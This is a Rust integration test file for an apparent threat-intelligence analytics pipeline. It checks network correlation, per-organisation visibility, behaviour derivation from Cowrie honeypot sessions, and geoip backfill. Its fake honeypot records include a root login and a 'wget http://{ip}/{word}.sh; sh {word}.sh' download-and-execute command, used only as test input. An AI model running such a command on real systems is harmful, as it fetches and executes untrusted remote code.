//! The second stage at work on an archive: what it derives, and who sees it.

#![allow(
    clippy::unwrap_used,
    reason = "clippy sees helpers of a test as no test"
)]

use std::collections::BTreeSet;
use std::sync::Arc;

use bson::{Document, doc};
use cybexp_analytics::{BackfillStep, Backfiller, run_with};
use cybexp_filters::second::{Networks, SECOND_FILTERS, SecondFilter};
use cybexp_filters::{FILTERS, Filter, RawInput, Refusal, Yield};
use cybexp_service::{Config, DaemonContext, Health, Shutdown};
use cybexp_store::{GraphReader, Visible};
use cybexp_testkit::{Daemon, Site};
use serde_json::{Value, json};
use tahoe_core::question::{Conditions, Context};
use tahoe_core::time::TimeRange;
use tahoe_core::{Attribute, Event, Hash, OrgId, Raw, SubType, Timestamp};

const ANALYTICS: &str = env!("CARGO_BIN_EXE_cybexp-analytics");

/// A filter that makes a sighting of the address in the field of its own name.
struct Reads {
    name: &'static str,
    typetags: &'static [&'static str],
}

impl Filter for Reads {
    fn name(&self) -> &'static str {
        self.name
    }

    fn version(&self) -> u32 {
        1
    }

    fn typetags(&self) -> &'static [&'static str] {
        self.typetags
    }

    fn run(&self, raw: &RawInput<'_>) -> Result<Yield, Refusal> {
        let address = raw.data[self.name].as_str().unwrap_or_default();
        let children = vec![ipv4(address).into()];
        let sighting = SubType::from_static("sighting");
        let event = Event::new(sighting, raw.orgid.clone(), raw.timestamp, children);
        Ok(Yield {
            events: vec![event.unwrap()],
            ..Yield::default()
        })
    }
}

/// Filters 1, 2 and 3 of the documentation's picture: two read the first kind of data, one the second.
const THREE: &[&dyn Filter] = &[
    &Reads {
        name: "one",
        typetags: &["first"],
    },
    &Reads {
        name: "two",
        typetags: &["first"],
    },
    &Reads {
        name: "three",
        typetags: &["second"],
    },
];

fn ipv4(address: &str) -> Attribute {
    Attribute::new(SubType::from_static("ipv4"), address)
}

fn cidr(network: &str) -> Attribute {
    Attribute::new(SubType::from_static("cidr"), network)
}

fn filter(name: &str) -> &'static dyn SecondFilter {
    *SECOND_FILTERS
        .iter()
        .find(|filter| filter.name() == name)
        .unwrap()
}

/// Stores raws of an organisation, and runs analytics until nothing is pending.
async fn run(
    site: &Site,
    filters: &'static [&'static dyn Filter],
    raws: &[(&str, &'static str, Value)],
) {
    let raws: Vec<Raw> = raws
        .iter()
        .map(|(orgid, typetag, data)| {
            let at = Some(Timestamp::new(1_700_000_000.0).unwrap());
            let (typetag, org) = (SubType::from_static(typetag), OrgId::new(orgid).unwrap());
            Raw::new(typetag, data.clone(), org, "UTC".to_owned(), at).unwrap()
        })
        .collect();
    let readers = |typetag: &str| {
        let readers = filters
            .iter()
            .filter(|filter| filter.typetags().contains(&typetag));
        readers.map(|filter| filter.name()).collect()
    };
    site.raws.write(&raws, readers).await.unwrap();
    let context = DaemonContext {
        name: "analytics",
        config: Arc::new(Config::from_file(&site.config).unwrap()),
        shutdown: Shutdown::new(),
        health: Health::new(),
        once: true,
    };
    run_with(context, filters, SECOND_FILTERS).await.unwrap();
}

/// Returns the events of an attribute that an organisation sees, by the hashes to which they refer.
async fn events(site: &Site, of: &Attribute, orgid: &str, derived: bool) -> Vec<BTreeSet<Hash>> {
    let of = Conditions {
        subjects: vec![of.hash()],
        attribute: None,
        range: TimeRange::default(),
        category: None,
        context: Context::All,
        derived,
    };
    let visible = Visible(vec![OrgId::new(orgid).unwrap()]);
    let reader = GraphReader::new(&site.archive);
    let page = reader.events(&of, &visible, 1, 100).await.unwrap();
    assert_eq!(
        reader.count(&of, &visible).await.unwrap(),
        page.events.len() as u64
    );
    page.events
        .into_iter()
        .map(|event| event.refs.into_iter().collect())
        .collect()
}

/// Returns the documents of derived events of a type.
async fn derived(site: &Site, sub_type: &str) -> Vec<Document> {
    let derived = doc! {"derived": true, "sub_type": sub_type};
    site.documents("tahoe", "instance", derived).await
}

/// The documentation's picture: raw 1 goes through filters 1 and 2, raw 2 through filter 3, and a fourth filter makes a
/// correlation of what filters 2 and 3 made.
#[tokio::test(flavor = "multi_thread")]
async fn a_fourth_filter_correlates_what_two_others_made() {
    let site = Site::new("picture", json!({})).await;
    let raws = [
        (
            "unr",
            "first",
            json!({"one": "192.0.2.1", "two": "203.0.113.7"}),
        ),
        ("unr", "second", json!({"three": "203.0.113.99"})),
    ];
    run(&site, THREE, &raws).await;
    let [left, right] = ["203.0.113.7", "203.0.113.99"].map(ipv4);
    let network = cidr("203.0.113.0/24");
    for (from, to) in [(&left, &right), (&right, &left)] {
        let plain = events(&site, from, "unr", false).await;
        assert_eq!(plain.len(), 1, "the derived event is no observation");
        assert!(!plain[0].contains(&network.hash()));
        let all = events(&site, from, "unr", true).await;
        assert!(
            all.iter().any(|refs| refs.contains(&network.hash())),
            "{all:?}"
        );
        let around = events(&site, &network, "unr", true).await;
        assert_eq!(around.len(), 2);
        assert!(around.iter().any(|refs| refs.contains(&to.hash())));
    }
    assert_eq!(events(&site, &network, "unr", false).await.len(), 0);
    assert_eq!(
        events(&site, &cidr("192.0.2.0/24"), "unr", true)
            .await
            .len(),
        1
    );
}

/// Records of a session at a sensor.
fn session(sensor: &str, id: &str, ip: &str, word: &str, end: u32) -> Vec<Value> {
    let record = |at: u32, eventid: &str, more: Value| {
        let mut record = json!({
            "eventid": format!("cowrie.{eventid}"), "sensor": sensor, "session": id, "src_ip": ip,
            "timestamp": format!("2026-11-02T03:14:{at:02}.000000Z"),
        });
        record
            .as_object_mut()
            .unwrap()
            .extend(more.as_object().unwrap().clone());
        record
    };
    let command = |at, input: String| record(at, "command.input", json!({"input": input}));
    vec![
        record(1, "session.connect", json!({"protocol": "ssh"})),
        record(
            2,
            "login.success",
            json!({"username": "root", "password": "x"}),
        ),
        command(
            3,
            format!("cd /tmp; wget http://{ip}/{word}.sh; sh {word}.sh"),
        ),
        command(4, format!("/bin/busybox {word}")),
        record(end, "session.closed", json!({"duration": 8.0})),
    ]
}

/// Two organisations are attacked by the same bot from neighbouring addresses. Each finds what it saw itself.
#[tokio::test(flavor = "multi_thread")]
async fn no_organisation_sees_what_another_one_derived() {
    let site = Site::new("two", json!({})).await;
    let mut raws = Vec::new();
    let bots = [
        ("unr", "reno", "198.51.100.7", "QZKWX"),
        ("unr", "osaka", "198.51.100.9", "BVXZJ"),
        ("usc", "london", "198.51.100.77", "WQXKZ"),
        ("usc", "london", "198.51.100.7", "KXJQV"),
    ];
    for (end, (orgid, sensor, ip, word)) in (10..).zip(bots) {
        let records = session(sensor, &format!("s{ip}{orgid}"), ip, word, end);
        raws.extend(records.into_iter().map(|record| (orgid, "cowrie", record)));
    }
    run(&site, FILTERS, &raws).await;
    let behaviours = derived(&site, "behaviour").await;
    assert_eq!(behaviours.len(), 4);
    let values: BTreeSet<String> = behaviours
        .iter()
        .map(|event| {
            let at = event.get_f64("timestamp").unwrap();
            assert!(
                (1_793_589_250.0..1_793_589_254.0).contains(&at),
                "the end: {at}"
            );
            let values = event
                .get_document("data")
                .unwrap()
                .get_array("behaviour")
                .unwrap();
            values[0].as_str().unwrap().to_owned()
        })
        .collect();
    assert_eq!(values.len(), 1, "one bot: {values:?}");
    let behaviour = Attribute::new(
        SubType::from_static("behaviour"),
        values.first().unwrap().as_str(),
    );
    let (network, address) = (cidr("198.51.100.0/24"), ipv4("198.51.100.7"));
    for orgid in ["unr", "usc"] {
        assert_eq!(
            events(&site, &behaviour, orgid, true).await.len(),
            2,
            "{orgid}"
        );
        assert_eq!(events(&site, &behaviour, orgid, false).await.len(), 0);
        assert_eq!(events(&site, &network, orgid, true).await.len(), 2);
        let of_address = events(&site, &address, orgid, true).await;
        let networks = of_address
            .iter()
            .filter(|refs| refs.contains(&network.hash()));
        assert_eq!(networks.count(), 1, "{orgid} derived it for itself");
    }
    assert_eq!(events(&site, &behaviour, "other", true).await.len(), 0);
    assert_eq!(events(&site, &network, "other", true).await.len(), 0);

    // all again changes nothing
    let before = site.archive.census().await.unwrap();
    site.collection("tahoe", "instance")
        .await
        .update_many(
            doc! {"itype": "raw"},
            doc! {"$set": {"_todo": ["cowrie"]}, "$unset": {"filters": ""}},
        )
        .await
        .unwrap();
    run(&site, FILTERS, &[]).await;
    assert_eq!(site.archive.census().await.unwrap(), before);
}

/// A session that goes on after a filter has read it is read again, and what the filter made of it before goes.
#[tokio::test(flavor = "multi_thread")]
async fn a_session_that_goes_on_has_one_behaviour() {
    let site = Site::new("goes_on", json!({})).await;
    let records = session("reno", "s1", "198.51.100.7", "QZKWX", 9);
    let of = |records: &[Value]| -> Vec<_> {
        records
            .iter()
            .map(|record| ("unr", "cowrie", record.clone()))
            .collect()
    };
    run(&site, FILTERS, &of(&records[..3])).await;
    let first = derived(&site, "behaviour").await;
    run(&site, FILTERS, &of(&records[3..])).await;
    let second = derived(&site, "behaviour").await;
    assert_eq!((first.len(), second.len()), (1, 1));
    assert_ne!(first[0].get("data"), second[0].get("data"));
    assert_eq!(
        site.archive
            .count_waiting_sessions("behaviour")
            .await
            .unwrap(),
        0
    );
}

/// New data of networks replace the events that differ, and no others.
#[tokio::test(flavor = "multi_thread")]
async fn new_data_replace_only_what_differs() {
    let site = Site::new("networks", json!({"analytics": {"geoip": ["ranges.csv"]}})).await;
    let file = site.folder.path().join("ranges.csv");
    let ranges = |second: &str| {
        format!("198.51.100.0,198.51.100.127,NL\n198.51.100.128,198.51.100.255,{second}\n")
    };
    std::fs::write(&file, ranges("US")).unwrap();
    let addresses = ["198.51.100.1", "198.51.100.200"];
    let raws: Vec<_> = addresses
        .iter()
        .map(|ip| ("unr", "sighting", json!({"ipv4": ip})))
        .collect();
    run(&site, FILTERS, &raws).await;
    let hashes = |events: Vec<Document>| -> BTreeSet<String> {
        events
            .iter()
            .map(|event| event.get_str("_hash").unwrap().to_owned())
            .collect()
    };
    let before = hashes(derived(&site, "geoip").await);
    assert_eq!(before.len(), 2);
    std::fs::write(&file, ranges("DE")).unwrap();
    let networks = Networks::load(std::slice::from_ref(&file)).unwrap();
    let backfiller = Backfiller::open(filter("geoip"), &site.archive, networks);
    let mut backfiller = backfiller.await.unwrap().unwrap();
    backfiller.restart().await.unwrap();
    let mut read = 0;
    loop {
        match backfiller.step().await.unwrap() {
            BackfillStep::Page(attributes) => read += attributes,
            BackfillStep::Done => break,
            BackfillStep::NotOurs => panic!("nobody else is at it"),
        }
    }
    assert_eq!(read, 2);
    let after = hashes(derived(&site, "geoip").await);
    assert_eq!((after.len(), before.intersection(&after).count()), (2, 1));
    let country = |code: &str| Attribute::new(SubType::from_static("country_code2"), code);
    for (code, count) in [("NL", 1), ("US", 0), ("DE", 1)] {
        assert_eq!(
            events(&site, &country(code), "unr", true).await.len(),
            count,
            "{code}"
        );
    }
    let progress = backfiller.progress().await.unwrap().unwrap();
    assert!(
        progress.done && progress.id == backfiller.id(),
        "{progress:?}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn without_data_geoip_rests_and_says_so() {
    let site = Site::new("rests", json!({})).await;
    let log = site.folder.path().join("log");
    let daemon = Daemon::start_logged(ANALYTICS, &["--once"], &site.config, &log);
    assert!(daemon.wait().success());
    let log = std::fs::read_to_string(&log).unwrap();
    let told = log.lines().find(|line| line.contains("rests")).unwrap();
    assert!(
        told.contains("geoip") && told.contains("analytics.geoip"),
        "{told}"
    );
    let networks = Networks::default();
    let resting = Backfiller::open(filter("geoip"), &site.archive, networks)
        .await
        .unwrap();
    assert!(resting.is_none());
}

/// The second stage can be turned off.
#[tokio::test(flavor = "multi_thread")]
async fn without_a_second_stage_nothing_is_derived() {
    let site = Site::new("off", json!({"analytics": {"second_stage": false}})).await;
    let raw = Raw::new(
        SubType::from_static("sighting"),
        json!({"ipv4": "198.51.100.1"}),
        OrgId::new("unr").unwrap(),
        "UTC".to_owned(),
        Some(Timestamp::new(1.0).unwrap()),
    );
    site.raws
        .write(&[raw.unwrap()], |_| vec!["sighting"])
        .await
        .unwrap();
    assert!(
        Daemon::start(ANALYTICS, &["--once"], &site)
            .wait()
            .success()
    );
    assert_eq!(
        events(&site, &ipv4("198.51.100.1"), "unr", true)
            .await
            .len(),
        1
    );
}
